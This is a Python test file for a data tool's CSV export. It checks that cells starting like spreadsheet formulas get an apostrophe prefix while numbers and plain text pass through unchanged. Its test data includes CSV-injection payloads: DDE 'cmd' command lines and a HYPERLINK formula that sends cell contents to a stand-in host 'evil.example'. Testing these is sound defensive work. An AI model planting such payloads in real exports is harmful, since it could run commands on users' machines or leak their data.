"""No text of a corpus becomes a formula in a spreadsheet program; numbers stay numbers."""

import csv
import io
import json

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
from pyarrow import parquet

from annotate_transformer.app.browser.parts import _csv
from annotate_transformer.app.present.formats import defused, write

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1+1", "＠A1", '"=1"', "'=1", "''=1", '"\'=1', "=", "-", "+", "@", "\t", "--",
    "=\U0001f600", "-1e5x", "+A1", "-inf()", "-1 month;=1", '=HYPERLINK("http://evil.example?"&A1)', "= 1",
]  # fmt: skip
PLAIN = ["a=1", " =", "a", "", "1", "-1", "+1.5", "-1.5e-3", "-.5", "-infinity", "-1 month 3 days 00:00:02.5",
         "-00:00:01", "é", "(=1)", "[=1]", "#=1", "a\n=1", "‘=1"]  # fmt: skip


def read(text: str) -> list[list[str]]:
    return [*csv.reader(io.StringIO(text, newline=""))]


def as_csv(answer: object, *, raw: bool = False) -> list[list[str]]:
    out = io.BytesIO()
    write(answer, "csv", out, raw=raw)  # type: ignore[arg-type]
    return read(out.getvalue().decode())


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert defused(text) == "'" + text
    table = pa.table({"a": [text], "=b": pa.array([text]).dictionary_encode()})
    assert as_csv(table) == [["a", "'=b"], ["'" + text, "'" + text]]
    assert as_csv(table, raw=True) == [["a", "=b"], [text, text]]
    frame = pd.DataFrame({"a": [text], "=b": [None]})
    assert read(_csv(frame).decode()) == [["a", "'=b"], ["'" + text, ""]]


@pytest.mark.parametrize("text", PLAIN)
def test_another_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text
    assert as_csv(pa.table({"a": [text], "b": [1]}))[1] == [text, "1"]


def test_numbers_stay_numbers() -> None:
    answer = duckdb.sql(
        "SELECT -1 AS a, -1.5::DOUBLE AS b, -2.50::DECIMAL(5, 2) AS c, -1e30::FLOAT AS d, '-inf'::DOUBLE "
        "AS e, DATE '-infinity' AS f, [-1] AS g, -170141183460469231731687303715884105727::HUGEINT AS h"
    ).to_arrow_table()
    [_, cells] = as_csv(answer)
    assert cells == ["-1", "-1.5", "-2.50", "-1e+30", "-inf", "-infinity", "[-1]", str(1 - 2**127)]
    frame = pd.DataFrame({"a": [-1, None], "b": ["-", "x"], "c": [-0.5, float("-inf")], "d": [True, False]})
    assert read(_csv(frame).decode())[1:] == [["-1.0", "'-", "-0.5", "True"], ["", "x", "-inf", "False"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_other_formats_are_exact(text: str) -> None:
    table, out = pa.table({"a": [text]}), io.BytesIO()
    write(table, "json", out)
    assert json.loads(out.getvalue()) == [{"a": text}]
    out = io.BytesIO()
    write(table, "parquet", out)
    assert parquet.read_table(out).to_pydict() == {"a": [text]}


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_it_can_be_undone(text: str) -> None:
    """An apostrophe is added to what begins like a formula, and to nothing else."""
    told = defused(text)
    assert (told[1:] if told != text else told) == text
    assert len({defused(each) for each in [*FORMULAS, *PLAIN]}) == len({*FORMULAS, *PLAIN})
